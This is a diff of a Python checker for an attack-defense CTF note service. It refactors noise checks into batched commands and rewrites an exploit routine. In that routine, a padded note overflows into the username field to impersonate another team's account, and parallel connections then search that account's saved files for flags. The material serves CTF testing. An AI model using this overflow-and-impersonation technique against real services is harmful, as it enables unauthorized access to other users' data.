+        logger.warning("Notelist mismatch (%s):\nexpected: %s\ngot: %s", "; ".join(diff), expected, actual)
+        raise MumbleException(f"{message} ({'; '.join(diff)})")
 
 @checker.getnoise(1)
 async def getnoise1(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter):
@@ -467,10 +819,8 @@ async def getnoise1(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
     note_count_to_check = random.randint(1, len(filenames))
     note_nums = random.choices(list(range(len(filenames))), k=note_count_to_check)
     
-    note_list_expected = {
-        0: DEFAULT_NOTE,
-        'saved': [b".", b"..", *[filename.encode() for filename in filenames]]
-    }
+    note_list_expected = NoteList(saved=[b".", b"..", *(filename.encode() for filename in filenames)])
+    note_list_expected[0] = DEFAULT_NOTE
 
     async with BambiNoteClient(task, logger) as client:
         await client.login(username, password)
@@ -483,31 +833,86 @@ async def getnoise1(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
             note_list_expected[rando_note_idx] = note_text
 
         # Incrementally load notes into mem and randomly list them!
-        for note_idx in note_nums:
-            if random.getrandbits(1):
-                note_list = await client.list_notes()
+        # All commands are pipelined, listings are matched against a snapshot
+        # of what we expected at that point once the batch has been flushed.
+        listings = []
+        async with client.batch() as batch:
+            for note_idx in note_nums:
+                if random.getrandbits(1):
+                    listings.append((note_list_expected.copy(), batch.list_notes()))
 
-                # Doesn't work since there may be additional notes from players!
-                # if note_list_expected != note_list:
-                #     raise MumbleException("Notes differ!")
-                logger.info(f"Notelist match:\nexpected: {note_list_expected}\ngot:{note_list}")
-                assert_notelist_matches(note_list_expected, note_list)
+                # Rarely load the password as a note to annoy teams
+                if random.getrandbits(4) == 0:
+                    rando_idx = random.randint(0, 9)
+                    batch.load_note(rando_idx, "passwd")
+                    note_list_expected[rando_idx] = password.encode()
 
-            # Rarely load the password as a note to annoy teams
-            if random.getrandbits(4) == 0:
                 rando_idx = random.randint(0, 9)
-                await client.load_note(rando_idx, "passwd")
-                note_list_expected[rando_idx] = password.encode()
+                # Already Occupied! (load note doesn't care, but we'll randomly delete them sometimes)
+                if note_list_expected[rando_idx] is not None:
+                    if random.getrandbits(1):
+                        batch.delete_note(rando_idx)
+                        note_list_expected[rando_idx] = None
 
-            rando_idx = random.randint(0, 9)
-            # Already Occupied! (load note doesn't care, but we'll randomly delete them sometimes)
-            if rando_idx in note_list_expected:
-                if random.getrandbits(1):
-                    await client.delete_note(rando_idx)
-                    del note_list_expected[rando_idx]
+                batch.load_note(rando_idx, filenames[note_idx])
+                note_list_expected[rando_idx] = notes[note_idx]
+
+        for expected, listing in listings:
+            note_list = listing.result()
+
+            # Doesn't work since there may be additional notes from players!
+            # if note_list_expected != note_list:
+            #     raise MumbleException("Notes differ!")
+            logger.debug("Notelist match:\nexpected: %s\ngot:%s", expected, note_list)
+            assert_notelist_matches(expected, note_list, logger)
+
+
+# Save and load all notes at once with the bulk commands
+@checker.putnoise(2)
+async def putnoise2(task: PutnoiseCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter):
+    (username, password) = generate_creds()
+
+    slots = random.sample(range(1, 10), random.randint(1, 9))
+    notes = [gen_rando_bs(max_len=0x38) for _ in slots]
+    filenames = [gen_random_str() for _ in slots]
+    await db.set("noise_info", (username, password, notes, filenames))
+
+    async with BambiNoteClient(task, logger) as client:
+        await client.register(username, password)
 
-            await client.load_note(rando_idx, filenames[note_idx])
-            note_list_expected[rando_idx] = notes[note_idx]
+        async with client.batch() as batch:
+            for idx, note in zip(slots, notes):
+                batch.create_note(idx, note)
+            batch.save_notes(list(zip(slots, filenames)))
+            listing = batch.list_notes()
+
+        expected = NoteList(saved=(filename.encode() for filename in filenames))
+        for idx, note in zip(slots, notes):
+            expected[idx] = note
+        assert_notelist_matches(expected, listing.result(), logger, "Note not in list!")
+
+@checker.getnoise(2)
+async def getnoise2(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter):
+    try:
+        username, password, notes, filenames = await db.get("noise_info")
+    except:
+        raise MumbleException("Putnoise failed!")
+
+    # Every note into a fresh slot, slot 0 keeps the default note
+    slots = random.sample(range(1, 10), len(filenames))
+    expected = NoteList(saved=(filename.encode() for filename in filenames))
+    expected[0] = DEFAULT_NOTE
+    for idx, note in zip(slots, notes):
+        expected[idx] = note
+
+    async with BambiNoteClient(task, logger) as client:
+        await client.login(username, password)
+
+        async with client.batch() as batch:
+            batch.load_notes(list(zip(slots, filenames)))
+            listing = batch.list_notes()
+
+        assert_notelist_matches(expected, listing.result(), logger)
 
 
 ## Fail Login repeatedly
@@ -540,30 +945,92 @@ async def havoc2(task: HavocCheckerTaskMessage, logger: LoggerAdapter):
         assert_equals(await client.readline(), b"Nice Try!\n", "L33T text not available!")
         assert_equals(await client.readline(), b"Yeah this isn't going to do anything\n", "L33T text not available!")
 
+EXPLOIT_FILENAME = "exploit_123"
+# Slot 0 holds the overflowing note, the others take the target's files
+EXPLOIT_SLOTS = 9
+
+async def impersonate(client: BambiNoteClient, target: str):
+    # Loading the long note into the small default note in slot 0 overflows
+    # into the username, every later path is built from the target's name
+    await client.load_note(0, EXPLOIT_FILENAME)
+    client.state = (target, client.state[1])
+
+def saved_filenames(notes: NoteList) -> Deque[str]:
+    """
+    The saved files of a listing to search, without the directory entries.
+    Players' filenames needn't be UTF-8, undecodable bytes are kept as
+    surrogates and sent back as they were.
+    """
+    return deque(note.decode(errors="surrogateescape") for note in notes.filenames if note not in (b".", b".."))
+
+async def search_saved_notes(client: BambiNoteClient, filenames: Deque[str], searcher: FlagSearcher) -> Optional[str]:
+    """
+    Loads and lists up to EXPLOIT_SLOTS files per round trip. A listed file
+    can be gone by the time it is loaded, expired by the cleaner, or only
+    left in a stale .index, so it is skipped like the baseline did.
+    """
+    while filenames:
+        chunk = [filenames.popleft() for _ in range(min(EXPLOIT_SLOTS, len(filenames)))]
+        async with client.batch() as batch:
+            loads = [batch.load_note(slot, filename, missing_ok=True) for slot, filename in enumerate(chunk, 1)]
+            listing = batch.list_notes()
+
+        notes = listing.result()
+        client.debug_log("%s", notes)
+        for slot, load in enumerate(loads, 1):
+            if not load.result():
+                continue
+            flag = searcher.search_flag(notes[slot] or b"")
+            if flag is not None:
+                return flag
+    return None
+
+async def search_saved_notes_helper(task: ExploitCheckerTaskMessage, logger: LoggerAdapter, deadline: float,
+        username: str, password: str, filenames: Deque[str], searcher: FlagSearcher) -> Optional[str]:
+    async with BambiNoteClient(task, logger, deadline) as client:
+        await client.login(username, password)
+        await impersonate(client, task.attack_info)
+        return await search_saved_notes(client, filenames, searcher)
+
+async def first_flag(searches) -> Optional[str]:
+    tasks = [asyncio.ensure_future(search) for search in searches]
+    try:
+        for search in asyncio.as_completed(tasks):
+            flag = await search
+            if flag is not None:
+                return flag
+        return None
+    finally:
+        for t in tasks:
+            t.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
+
 @checker.exploit(0)
 async def exploit_test(task: ExploitCheckerTaskMessage, searcher: FlagSearcher, sock: AsyncSocket, logger:LoggerAdapter) -> Optional[str]:
     username, password = generate_creds()
     async with BambiNoteClient(task, logger) as client:
         await client.register(username, password)
         await client.create_note(5, b"A" * 0x40 + task.attack_info.encode())
-        await client.save_note(5, "exploit_123")
-        await client.load_note(0, "exploit_123")
-
-        client.state = (task.attack_info, client.state[1])
+        await client.save_note(5, EXPLOIT_FILENAME)
+        await impersonate(client, task.attack_info)
         notes = await client.list_notes()
 
-        note_ctr = 1
-        for note in notes['saved']:
-            if note == b"." or note == b"..":
-                continue
-            
-            logger.info(f"loading NOTE {note_ctr}, filename: {note}")
-            await client.load_note(note_ctr, note.decode())
-            notes = await client.list_notes()
-            logger.info(f"{notes}")
-            foo = searcher.search_flag(notes[1]) 
-            if foo is not None:
-                return foo
+        filenames = saved_filenames(notes)
+        logger.info("searching %d saved notes", len(filenames))
+
+        # Whole batches beyond the first one go to extra connections, all
+        # of them pulling from the same queue until one finds the flag
+        helpers = min(EXPLOIT_CONNECTIONS - 1, (len(filenames) - 1) // EXPLOIT_SLOTS)
+        searches = [search_saved_notes(client, filenames, searcher)]
+        searches += [
+            search_saved_notes_helper(task, logger, client.deadline, username, password, filenames, searcher)
+            for _ in range(max(helpers, 0))
+        ]
+        return await first_flag(searches)
+
+instrument(checker._method_variants)
+
+startup.mark("handlers")
 
 if __name__ == "__main__":
     checker.run()
\ No newline at end of file